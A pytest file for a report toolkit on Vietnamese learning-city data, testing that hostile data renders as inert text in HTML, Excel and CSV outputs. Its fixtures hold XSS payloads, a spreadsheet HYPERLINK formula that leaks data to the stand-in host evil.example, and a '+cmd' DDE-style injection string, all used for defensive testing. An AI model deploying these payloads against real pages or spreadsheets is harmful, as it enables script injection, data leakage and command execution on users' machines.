"""Hostile text in the data never becomes live markup or a live spreadsheet formula.

* HTML: report sections (Markdown and tables) and the run's ``index.html``
  show data text escaped; nbconvert renders it as text, not elements.
* Excel: the collection workbook stores text starting with ``=``/``+``/``-``/``@``
  as strings, never formulas.
* CSV: every CSV the toolkit writes quotes such text cells with ``'`` and leaves
  numbers alone.
"""

from __future__ import annotations

import csv
import dataclasses
import re
import zipfile
from html.parser import HTMLParser

import nbformat
import openpyxl
import pandas as pd
import pytest
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from learningcity.exports import neutralise_frame, neutralise_text, write_csv
from learningcity.reports import sections as s
from learningcity.reports.manifest import render_index

IMG = '<img src=x onerror="alert(document.domain)">'
SCRIPT = "<script>alert('xss')</script>"
MD_LINK = "[click](javascript:alert(1))"
HOSTILE = f"{IMG} {SCRIPT} {MD_LINK} *em* _u_ `c` $x$ & &amp;"
FORMULA = '=HYPERLINK("http://evil.example/?leak=1","click")'


class _Page(HTMLParser):
    """The elements and visible text of an HTML page."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        (self.scripts if self._in_script else self.text).append(data)

    def live(self) -> list[str]:
        """Everything in the page that the hostile strings could have made run."""
        found = []
        for tag, attrs in self.tags:
            if tag in {"img", "iframe", "object", "embed"}:
                found.append(tag)
            found += [f"{tag}[{a}]" for a in attrs if a.startswith("on")]
            for a in ("href", "src", "action"):
                value = (attrs.get(a) or "").strip().lower()
                if value.startswith(("javascript:", "data:", "vbscript:")):
                    found.append(f"{tag}[{a}={value}]")
        found += [f"script:{x[:30]}" for x in self.scripts if "alert" in x or "xss" in x]
        return found

    def visible(self) -> str:
        # nbconvert gives each heading an anchor link "¶"; it is not data.
        return " ".join(" ".join(self.text).split()).replace(" ¶", "").removesuffix("¶")

    def elements(self) -> list[str]:
        return [t for t, a in self.tags if a.get("class") != "anchor-link"]


def _md(markdown: str) -> _Page:
    """A Markdown output as nbconvert renders it (raw HTML passes through)."""
    return _Page(markdown2html_mistune(markdown))


# -- Markdown and HTML tables ------------------------------------------------------


def test_the_check_sees_live_markup_in_unescaped_text():
    # Control: the same render and parser report the raw payloads as live.
    assert {"img", "img[onerror]"} <= set(_md(HOSTILE).live())
    assert any(x.startswith("a[href=javascript:") for x in _md(MD_LINK).live())
    raw_table = pd.DataFrame({"Publisher": [IMG]}).style.to_html()
    assert "img" in _Page(raw_table).live()


@pytest.mark.parametrize(
    "text",
    [HOSTILE, f"Line one\n\n{SCRIPT}\n# heading", "1. not a list", "- nor this", "= or this"],
)
def test_markdown_values_render_as_the_literal_text(text):
    page = _md(s.tr("facts", "en", unit=text))
    assert page.live() == []
    assert page.visible() == "Published figures for " + " ".join(text.split())
    # The value never changes the block structure: one heading, nothing else.
    assert page.elements() == ["h2"]


def test_a_value_at_the_start_of_a_line_cannot_start_a_list_or_heading():
    for text in ("1. one", "2) two", "- item", "+ item", "# title", "> quote", "    code"):
        page = _md(s.md_text(text))
        assert page.elements() == ["p"], text
        assert page.visible() == text.strip()


def test_html_table_escapes_cells_and_headers_and_keeps_safe_links():
    table = pd.DataFrame(
        {
            f"Publisher {SCRIPT}": [IMG, "Tổng cục Thống kê & Bộ GD"],
            "Link": ["javascript:alert(1)", "https://www.gso.gov.vn/a?b=1&c=<2>"],
        }
    )
    page = _Page(s.html_table(table, links=["Link"]).data)
    assert page.live() == []
    text = page.visible()
    assert IMG in text and SCRIPT in text and "javascript:alert(1)" in text
    assert "Tổng cục Thống kê & Bộ GD" in text
    links = [a["href"] for t, a in page.tags if t == "a"]
    assert links == ["https://www.gso.gov.vn/a?b=1&c=<2>"]  # parser decodes the entities


@pytest.mark.parametrize(
    "url",
    [
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "https://ok.example/\njavascript:alert(1)",
        "//evil.example/x",
        "http:/no-host",
    ],
)
def test_only_http_addresses_become_links(url):
    page = _Page(s.html_table(pd.DataFrame({"Link": [url]}), links=["Link"]).data)
    assert page.live() == []
    assert not [t for t, _ in page.tags if t == "a"]


# -- sections on a context with hostile data ------------------------------------


@pytest.fixture(scope="module")
def hostile():
    from learningcity.reports.context import build_context

    ctx = build_context(2023, n_replications=8, seed=1)
    city, province = "132", "15"  # Yên Bái city and its province
    tidy = ctx.tidy.copy()
    mine = tidy["unit_code"].isin([city, province])
    for col in ("publisher", "document", "table_or_page", "note"):
        tidy.loc[mine, col] = f"{col} {HOSTILE}"
    tidy.loc[mine, "source_id"] = tidy.loc[mine, "source_id"] + SCRIPT
    tidy.loc[mine, "url"] = "javascript:alert(document.domain)"
    units = ctx.units.copy()
    units.loc[units["code"].isin([city, province]), "name"] = f"Yên Bái {IMG}"
    meta = ctx.meta.copy()
    meta["name_en"] = meta["name_en"] + " " + SCRIPT
    meta["name_vi"] = meta["name_vi"] + " " + MD_LINK
    bad = dataclasses.replace(ctx, tidy=tidy, units=units, meta=meta)
    unit = units[units["code"] == city].iloc[0]
    prov = units[units["code"] == province].iloc[0]
    return bad, unit, prov


def _section_outputs(ctx, unit, prov, lang):
    """(mime type, text) of every text and table section of both templates."""
    md, tables = [], []
    md.append(s.headline(ctx, unit, lang))
    md.append(s.headline(ctx, prov, lang, overview=True))
    md.append(s.tr("facts", lang, unit=s.unit_label(unit, lang)))
    md.append(s.tr("profile", lang, unit=ctx.name(prov["code"]), iyear=ctx.index_year))
    md.append(s.appendix_gaps(ctx, unit, lang))
    text, peers = s.peers_section(ctx, unit, lang)
    md.append(text)
    tables += [peers, s.facts_table(ctx, unit, lang), s.area_table(ctx, unit, lang)]
    tables += [s.strengths_table(ctx, unit, lang), s.checklist_table(ctx, unit, lang)]
    tables += [s.targets_table(ctx, unit, lang), s.district_table(ctx, prov, lang)]
    tables.append(s.appendix_sources(ctx, [unit["code"], prov["code"]], lang))
    out = [("text/markdown", m) for m in md]
    for t in tables:  # targets_table may answer in Markdown
        mime = "text/html" if hasattr(t, "_repr_html_") else "text/markdown"
        out.append((mime, t.data))
    return out


@pytest.mark.parametrize("lang", ["en", "vi"])
def test_sections_show_hostile_data_as_text(hostile, lang):
    ctx, unit, prov = hostile
    outputs = _section_outputs(ctx, unit, prov, lang)
    seen = []
    for mime, data in outputs:
        page = _md(data) if mime == "text/markdown" else _Page(data)
        assert page.live() == [], (mime, data[:300])
        seen.append(page.visible())
    everything = " ".join(seen)
    # The hostile names, publishers and indicator names are shown, as text.
    assert f"Yên Bái {IMG}" in everything
    assert f"publisher {HOSTILE}" in everything
    assert SCRIPT in everything and "javascript:alert(document.domain)" in everything


def test_planner_html_of_hostile_sections_stays_inert(hostile, tmp_path):
    # The real nbconvert page (planner template) from the sections' outputs.
    from learningcity.reports.render import render_html

    ctx, unit, prov = hostile
    cell = nbformat.v4.new_code_cell("")
    cell.outputs = [
        nbformat.v4.new_output("display_data", data={mime: data})
        for mime, data in _section_outputs(ctx, unit, prov, "en")
    ]
    nb = nbformat.v4.new_notebook(cells=[cell])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
    path = tmp_path / "r.ipynb"
    nbformat.write(nb, path)
    page = _Page(render_html(path, tmp_path / "r.html", title=f"Report {SCRIPT}", lang="en"))
    assert page.live() == []
    assert f"Yên Bái {IMG}" in page.visible()
    assert "<script>" not in "".join(page.scripts)  # the title is escaped too


# -- the run's index.html ----------------------------------------------------------


def test_run_index_escapes_manifest_text_and_refuses_script_links():
    manifest = {
        "folder": f"2026-03-01 {SCRIPT}",
        "runs": [
            {
                "run_id": f"r1{IMG}",
                "template": {"name": f"city{SCRIPT}"},
                "parameters": {"unit": IMG, f"k{SCRIPT}": "v"},
                "package_version": SCRIPT,
                "reports": [
                    {
                        "unit_name": f"Yên Bái {IMG}",
                        "unit_code": SCRIPT,
                        "status": "failed",
                        "message": f"boom {IMG}",
                        "html": "javascript:alert(1)",
                        "notebook": 'x.ipynb" onmouseover="alert(1)',
                    },
                    {
                        "unit_name": "Nghĩa Lộ",
                        "unit_code": "133",
                        "status": 'ok" onclick="alert(1)',
                        "html": "city nghia-lo#1.html",
                        "notebook": "city-nghia-lo.ipynb",
                    },
                ],
            }
        ],
    }
    html = render_index(manifest)
    page = _Page(html)
    assert page.live() == []
    text = page.visible()
    assert f"Yên Bái {IMG}" in text and f"boom {IMG}" in text and "javascript:alert(1)" in text
    hrefs = [a["href"] for t, a in page.tags if t == "a"]
    # The quoted notebook name stays one (percent-encoded) relative link, not an attribute.
    assert hrefs == [
        "x.ipynb%22%20onmouseover%3D%22alert%281%29",
        "city%20nghia-lo%231.html",
        "city-nghia-lo.ipynb",
    ]
    assert all("onclick" not in a and "onmouseover" not in a for _, a in page.tags)


# -- Excel -------------------------------------------------------------------------


def test_workbook_stores_formula_like_text_as_text(tmp_path, monkeypatch):
    import learningcity.workbook as wb
    from learningcity.paths import data_dir

    hostile = {
        "source_id": FORMULA,
        "publisher": "+cmd|' /C calc'!A0",
        "document": "-2+3",
        "table_or_page": "@SUM(A1:A2)",
        "year": "2024",
        "url": "\t=1+1",
        "licence": "-1",  # text that looks like a number is still text here
        "note": "ordinary text",
    }
    sources = pd.read_csv(data_dir() / "sources.csv", dtype=str, keep_default_na=False)
    sources = pd.concat([sources, pd.DataFrame([hostile])], ignore_index=True)
    folder = tmp_path / "data"
    folder.mkdir()
    # CRLF line ends: pandas leaves a "\r" in a text unquoted with its default "\n".
    sources.to_csv(folder / "sources.csv", index=False, lineterminator="\r\n")
    monkeypatch.setattr(wb, "data_dir", lambda: folder)
    path = wb.write_template(tmp_path / "collect.xlsx")

    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) >= 6
        for name in sheets:
            assert not re.search(rb"<f[ >]", z.read(name)), name  # no formula anywhere
    book = openpyxl.load_workbook(path)
    last = list(book["Sources"][book["Sources"].max_row])
    assert [c.value for c in last] == list(hostile.values())
    assert [c.data_type for c in last] == ["s"] * len(hostile)
    # Only the texts that start like a formula are marked (not the year, not the note).
    assert [c.quotePrefix for c in last] == [True, True, True, True, False, True, True, False]
    # Numbers stay numbers: a negative direction (-1) in the Indicators sheet.
    ind = book["Indicators"]
    heads = [c.value for c in ind[1]]
    directions = [row[heads.index("direction")] for row in ind.iter_rows(min_row=2)]
    assert {c.data_type for c in directions} == {"n"}
    assert -1 in {c.value for c in directions}


# -- CSV ---------------------------------------------------------------------------


def test_neutralise_frame_quotes_text_cells_only():
    frame = pd.DataFrame(
        {
            "code": pd.array([FORMULA, "+84", "-", "@x", "\tx", "\rx", "01", None], dtype="str"),
            "mixed": pd.Series(["=1", 2.5, -3, None, "a-b", "", " =1", "x"], dtype=object),
            "kind": pd.Categorical(["@a", "b"] * 4),
            "value": [-1.5, -2.0, 0.0, float("nan"), 1e-3, -1e6, 3.0, 4.0],
            "n": [-1, -2, -3, -4, 5, 6, 7, 8],
            "=cols": [True] * 8,
        }
    )
    out = neutralise_frame(frame)
    assert out["code"].tolist()[:7] == [
        "'" + FORMULA, "'+84", "'-", "'@x", "'\tx", "'\rx", "01"
    ]  # fmt: skip
    assert out["code"].isna().tolist() == [False] * 7 + [True]
    assert out["mixed"].tolist()[:3] == ["'=1", 2.5, -3]
    assert out["mixed"].tolist()[4:] == ["a-b", "", " =1", "x"]
    assert list(out["kind"].cat.categories) == ["'@a", "b"]
    pd.testing.assert_series_equal(out["value"], frame["value"])
    pd.testing.assert_series_equal(out["n"], frame["n"])
    assert list(out.columns) == ["code", "mixed", "kind", "value", "n", "'=cols"]
    assert frame["code"].iloc[0] == FORMULA  # the input is not modified
    assert neutralise_text(-1.5) == -1.5


def test_a_carriage_return_inside_a_text_cannot_start_a_new_row(tmp_path):
    # Unquoted, "x\r=1+1" is two lines to a spreadsheet, the second a live formula.
    path = write_csv(
        pd.DataFrame({"name": ["x\r=1+1", "y\n@z"], "v": [1, -2]}),
        tmp_path / "a.csv",
        overwrite=False,
    )
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert rows == [["name", "v"], ["x\r=1+1", "1"], ["y\n@z", "-2"]]


def test_write_csv_round_trips_numbers_and_never_clobbers(tmp_path):
    path = tmp_path / "out.csv"
    frame = pd.DataFrame({"unit_code": [FORMULA, "02"], "score": [-1.5, 99.25]})
    write_csv(frame, path, overwrite=False)
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert rows == [["unit_code", "score"], ["'" + FORMULA, "-1.5"], ["02", "99.25"]]
    assert path.read_bytes().count(b"\r\n") == 3
    back = pd.read_csv(path, dtype={"unit_code": str})
    assert back["score"].tolist() == [-1.5, 99.25]
    with pytest.raises(FileExistsError):
        write_csv(frame.iloc[:1], path, overwrite=False)
    assert len(list(csv.reader(path.open(encoding="utf-8")))) == 3  # unchanged


_NUMBER = re.compile(r"^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$")


def _formula_cells(path) -> list[str]:
    """Cells a spreadsheet would run: a formula prefix, and not a plain number."""
    with open(path, encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _NUMBER.match(c)]


def _cells(path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_index_result_save_neutralises_every_csv(tmp_path):
    from learningcity.index import build_index

    meta = pd.DataFrame({"focus_area": ["1.1", "1.1"], "area": ["1", "1"]}, index=["@cmd", "b"])
    data = pd.DataFrame(
        {"@cmd": [1.0, -3.0, 2.0, 5.0], "b": [-1.0, -2.0, 4.0, 0.5]},
        index=[FORMULA, "+84", "02", "03"],
    )
    res = build_index(data, meta)
    written = res.save(tmp_path)
    csvs = [tmp_path / n for n in written if n.endswith(".csv")]
    assert len(csvs) >= 6
    for path in csvs:
        assert _formula_cells(path) == [], path.name
    scores = _cells(tmp_path / "scores.csv")
    assert "'" + FORMULA in scores and "'+84" in scores and "'@cmd" in scores
    assert "'@cmd" in _cells(tmp_path / "normalised.csv")[:3]  # a column name
    # Negative numbers are written as numbers (skewness of the "@cmd" column).
    treatment = pd.read_csv(tmp_path / "treatment.csv")
    assert treatment["skew_before"].dtype == "float64"
    assert (treatment["skew_before"] < 0).any()
    assert treatment["skew_before"].tolist() == res.treatment["skew_before"].tolist()


def test_index_command_out_csv_is_safe(tmp_path, capsys):
    from learningcity.cli import main

    wide = tmp_path / "wide.csv"
    wide.write_text(
        f'unit_code,literacy_rate\n"{FORMULA.replace(chr(34), chr(34) * 2)}",70\n'
        "@evil,80\n133,90\n",
        encoding="utf-8",
    )
    out = tmp_path / "scores.csv"
    assert main(["index", "--wide", str(wide), "--out", str(out)]) == 0
    capsys.readouterr()
    assert _formula_cells(out) == []
    scores = pd.read_csv(out, dtype={"unit_code": str})
    assert {"'" + FORMULA, "'@evil", "133"} == set(scores["unit_code"])
    assert pd.api.types.is_float_dtype(scores["score"])


def test_uncertainty_command_out_csv_is_safe(tmp_path, capsys):
    from learningcity.cli import main

    wide = tmp_path / "wide.csv"
    wide.write_text(
        "unit_code,literacy_rate,trained_workers_rate,upper_secondary_graduation\n"
        "=1+1,99,40,98\n-2+3,95,30,90\n15,90,10,80\n",
        encoding="utf-8",
    )
    space = tmp_path / "space.yaml"
    space.write_text("normalisers: [minmax, rank]\n", encoding="utf-8")
    out = tmp_path / "summary.csv"
    argv = ["uncertainty", "--space", str(space), "--wide", str(wide), "-n", "10"]
    assert main([*argv, "--out", str(out)]) == 0
    capsys.readouterr()
    assert _formula_cells(out) == []
    summary = pd.read_csv(out, dtype={"unit_code": str})
    assert set(summary["unit_code"]) == {"'=1+1", "'-2+3", "15"}
